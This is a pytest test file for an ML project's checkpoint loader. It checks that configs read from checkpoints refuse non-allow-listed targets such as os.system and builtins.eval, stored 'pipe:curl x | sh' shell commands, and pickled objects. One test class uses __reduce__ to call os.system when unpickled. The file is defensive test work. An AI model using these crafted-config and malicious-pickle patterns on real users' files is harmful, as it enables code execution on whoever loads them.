"""Configs read back from files build only allow-listed classes: a checkpoint whose run_config names any other
`_target_` is refused, with the file and the key named, before anything is instantiated."""

from __future__ import annotations

from pathlib import Path

import pytest
import torch

from supra.artifacts.checkpoints import load_vqvae
from supra.artifacts.loaded_configs import check_targets, instantiate_loaded
from supra.models.vlm_nano import VLMNano
from supra.runner.evaluation import evaluate
from supra.tokens.caption_bpe import CaptionTokenizer
from supra.utils.errors import SupraUserError
from tests.conftest import compose_config, write_vqvae_checkpoint


@pytest.mark.parametrize("experiment", ["vlm_shapes", "vqvae_shapes"])
def test_supras_own_run_configs_pass(tmp_path, experiment):
    cfg = compose_config("train", tmp_path / "run", [f"experiment={experiment}", "logger=many"])
    check_targets(cfg, "run_config")


@pytest.mark.parametrize(
    ("config", "key"),
    [
        ({"model": {"net": {"_target_": "os.system", "command": "true"}}}, "model.net._target_='os.system'"),
        ({"callbacks": [{"_target_": "lightning.pytorch.callbacks.Timer"}, {"_target_": "builtins.eval"}]},
         "callbacks[1]._target_='builtins.eval'"),
        ({"net": {"_target_": "torch.hub.load", "repo_or_dir": "."}}, "net._target_='torch.hub.load'"),
        ({"data": {"_target_": "supra_evil.Module"}}, "data._target_='supra_evil.Module'"),
        # whole libraries are not allowed: they hold loaders and command runners under other names
        ({"net": {"_target_": "torch.utils.collect_env.run", "command": "true"}},
         "net._target_='torch.utils.collect_env.run'"),
        ({"net": {"_target_": "torch.serialization.load", "f": "x.pt"}}, "net._target_='torch.serialization.load'"),
        ({"net": {"_target_": "hydra._internal.utils._locate", "path": "os.system"}},
         "net._target_='hydra._internal.utils._locate'"),
        # an allowed package's imports are not: the name is followed to what it is
        ({"data": {"_target_": "supra.data.caption_sources.shards.os.system"}},
         "data._target_='supra.data.caption_sources.shards.os.system'"),
        ({"net": {"_target_": "supra.models.vqvae.VQVAE.load_state_dict"}},
         "net._target_='supra.models.vqvae.VQVAE.load_state_dict'"),
    ],
)
def test_targets_outside_the_allow_list_are_refused_with_their_key(config, key):
    with pytest.raises(SupraUserError, match="is not allowed in a loaded config") as err:
        check_targets(config, "ckpt=x.ckpt")
    assert str(err.value).startswith(f"ckpt=x.ckpt: {key}")
    assert "\n" not in str(err.value)


@pytest.mark.parametrize("target", [
    "torch.optim.AdamW", "torch.optim.lr_scheduler.LambdaLR", "lightning.pytorch.trainer.Trainer",
    "lightning.pytorch.callbacks.LearningRateMonitor", "supra.models.a2a_nano.A2ANano.from_kwargs",
    "supra.tasks.lr_schedules.warmup_cosine", "supra.data.shapes.ShapesDataModule",  # moved: upgraded at load
])
def test_the_classes_supras_configs_name_pass(target):
    check_targets({"x": {"_target_": target}}, "run_config")


def test_allowed_targets_are_built():
    optimizer = instantiate_loaded({"_target_": "torch.optim.SGD", "_partial_": True, "lr": 0.1}, "test")
    assert optimizer.keywords["lr"] == 0.1


@pytest.mark.parametrize("target", ["os.makedirs", "torch.utils.collect_env.run"])
def test_vqvae_checkpoint_with_a_foreign_target_is_refused_before_it_runs(tmp_path, target):
    marker = tmp_path / "was_called"
    ckpt = tmp_path / "tampered.ckpt"
    net = {"_target_": target, **({"name": str(marker)} if target == "os.makedirs" else {"command": f"touch {marker}"})}
    torch.save({"state_dict": {}, "supra": {"kind": "supra.vqvae", "run_config": {"model": {"net": net}}}}, ckpt)
    with pytest.raises(SupraUserError, match=rf"run_config\.model\.net\._target_='{target}' is not allowed") as err:
        load_vqvae(ckpt)
    assert "\n" not in str(err.value)
    assert not marker.exists()


def write_captioner_with_data(path: Path, data: dict) -> Path:
    """A release-sized captioner checkpoint whose stored run config holds `data`."""
    net = VLMNano()  # the release configuration
    tokenizer = CaptionTokenizer.train(["a red circle", "a blue square on the left"] * 20, vocab_size=64)
    torch.save({"state_dict": {f"net.{k}": v for k, v in net.state_dict().items()}, "supra": {
        "kind": "supra.captioning", "tokenizer": tokenizer.to_json(),
        "run_config": {"model": {"net": {**net.config.release_config, "_target_": "supra.models.vlm_nano.VLMNano"}},
                       "data": data},
    }}, path)
    return path


def test_evaluate_refuses_a_checkpoint_whose_data_config_names_a_foreign_target(tmp_path):
    marker = tmp_path / "was_called"
    ckpt = write_captioner_with_data(tmp_path / "tampered.ckpt", {"_target_": "os.makedirs", "name": str(marker)})
    cfg = compose_config("eval", tmp_path / "eval", [f"ckpt={ckpt}"])
    with pytest.raises(SupraUserError, match=r"run_config\.data\._target_='os\.makedirs' is not allowed") as err:
        evaluate(cfg)
    assert str(ckpt) in str(err.value)
    assert not marker.exists() and not Path(marker).parent.joinpath("eval", "metrics.json").exists()


@pytest.mark.parametrize(
    ("data", "key"),
    [
        ({"train_shards": "pipe:touch x"}, "run_config.data.train_shards='pipe:touch x'"),
        ({"sources": {"photos": {"shards": ["a.tar", "pipe:curl x | sh"]}}},
         "run_config.data.sources.photos.shards[1]='pipe:curl x | sh'"),
    ],
)
def test_a_pipe_command_in_a_loaded_config_is_refused_with_its_file_and_key(data, key):
    with pytest.raises(SupraUserError) as err:
        check_targets(data, "ckpt=x.ckpt", "run_config.data")
    assert str(err.value) == (f"ckpt=x.ckpt: {key} is a shell command, which is not run from a loaded config: "
                              "give it on the command line if you trust it, or name the shards by their path or URL")


def test_a_pipe_command_the_command_line_gave_is_the_users_own():
    data = {"train_shards": "pipe:cat /data/00000.tar", "val_shards": ["s3://bucket/00000.tar"]}
    check_targets(data, "ckpt=x.ckpt", "run_config.data", given={"train_shards": "pipe:cat /data/00000.tar"})
    with pytest.raises(SupraUserError, match="is a shell command"):  # another command than the one given
        check_targets(data, "ckpt=x.ckpt", "run_config.data", given={"train_shards": "pipe:cat /data/00001.tar"})


def test_evaluate_runs_no_pipe_command_a_checkpoint_stores(tmp_path):
    marker = tmp_path / "was_run"
    ckpt = write_captioner_with_data(tmp_path / "tampered.ckpt", {
        "_target_": "supra.data.captioning.shards.ShardCaptionsDataModule", "split": "test",
        **{f"{split}_shards": f"pipe:touch {marker}; exit 1" for split in ("train", "val", "test")}})
    cfg = compose_config("eval", tmp_path / "eval", [f"ckpt={ckpt}"])
    with pytest.raises(SupraUserError) as err:
        evaluate(cfg)
    assert str(err.value).startswith(f"ckpt={ckpt}: run_config.data.train_shards='pipe:touch {marker}; exit 1' is a "
                                     "shell command, which is not run from a loaded config")
    assert not marker.exists()


def test_a_vqvae_checkpoint_naming_a_setting_this_version_lacks_is_one_line_naming_the_file_and_key(tmp_path):
    saved = torch.load(write_vqvae_checkpoint(tmp_path / "vq.ckpt"), weights_only=True)
    saved["supra"]["run_config"]["model"]["net"]["codebook_size"] = 3  # another version's name for a setting
    torch.save(saved, tmp_path / "other_version.ckpt")
    with pytest.raises(SupraUserError, match=r"other_version\.ckpt: run_config\.model\.net cannot be built by this "
                                             r"version of Supra \(.*'codebook_size'\)") as err:
        load_vqvae(tmp_path / "other_version.ckpt")
    assert "\n" not in str(err.value)


def test_a_vqvae_checkpoint_whose_config_asks_for_a_huge_codebook_is_refused_before_any_memory_is_taken(tmp_path):
    saved = torch.load(write_vqvae_checkpoint(tmp_path / "vq.ckpt"), weights_only=True)
    saved["supra"]["run_config"]["model"]["net"]["num_codes"] = 10**10  # 2.5 TB of codebook
    torch.save(saved, tmp_path / "edited.ckpt")
    with pytest.raises(SupraUserError) as refused:
        load_vqvae(tmp_path / "edited.ckpt")
    assert str(refused.value) == (
        f"ckpt={tmp_path / 'edited.ckpt'} does not fit this model: wrong shape ['quantizer.codebook' (256, 64) there, "
        "(10000000000, 64) here, 'quantizer.ema_count' (256,) there, (10000000000,) here, 'quantizer.ema_sum' (256, 64) "
        "there, (10000000000, 64) here, 'quantizer.steps_unused' (256,) there, (10000000000,) here]")


class RunsACommand:
    """What a crafted checkpoint holds: unpickling it would call os.system."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        import os

        return os.system, (f"touch {self.marker}",)


def test_a_checkpoint_holding_pickled_objects_is_said_not_loaded_not_cut_short(tmp_path):
    from supra.artifacts.checkpoints import load_supra_checkpoint

    marker = tmp_path / "was_run"
    ckpt = tmp_path / "crafted.ckpt"
    torch.save({"state_dict": {}, "supra": {"kind": "supra.captioning"}, "x": RunsACommand(marker)}, ckpt)
    with pytest.raises(SupraUserError) as refused:
        load_supra_checkpoint(ckpt)
    assert str(refused.value) == (f"ckpt={ckpt} was not loaded: it holds objects other than tensors (posix.system), "
                                  "which could run code if loaded, and no file Supra writes does: use only checkpoints "
                                  "you trust")
    assert not marker.exists()


def test_a_checkpoint_cut_short_is_still_said_to_be_cut_short(tmp_path):
    from supra.artifacts.checkpoints import load_supra_checkpoint

    whole = write_vqvae_checkpoint(tmp_path / "vq.ckpt").read_bytes()
    (tmp_path / "cut.ckpt").write_bytes(whole[:len(whole) // 2])
    with pytest.raises(SupraUserError, match="copy it again if it was cut short$"):
        load_supra_checkpoint(tmp_path / "cut.ckpt")


def test_bytes_torch_cannot_unpickle_as_weights_are_not_said_to_hold_objects(tmp_path):
    from supra.artifacts.checkpoints import load_supra_checkpoint

    (tmp_path / "garbage.ckpt").write_bytes(b"not a checkpoint at all")  # torch: "Weights only load failed" too
    with pytest.raises(SupraUserError, match="copy it again if it was cut short$"):
        load_supra_checkpoint(tmp_path / "garbage.ckpt")


def test_a_module_built_for_its_shapes_holds_meta_tensors_and_runs_no_init_function():
    """Sizes are checked against a model built on the meta device before it is built for real; torch's init
    functions there loaded its decompositions (~1 s) in every command that loads weights."""
    from supra.utils.state_dicts import shapes_only

    untouched = torch.zeros(3)
    with shapes_only():
        layer = torch.nn.Linear(4, 2)
        torch.nn.init.constant_(untouched, 5.0)  # skipped, whatever its tensor
        torch.nn.init.normal_(tensor=untouched, std=9.0)
    assert layer.weight.device.type == "meta" and tuple(layer.weight.shape) == (2, 4)
    assert untouched.tolist() == [0.0, 0.0, 0.0]
    assert torch.nn.Linear(1, 1).weight.device.type == "cpu"  # the mode ends with the block
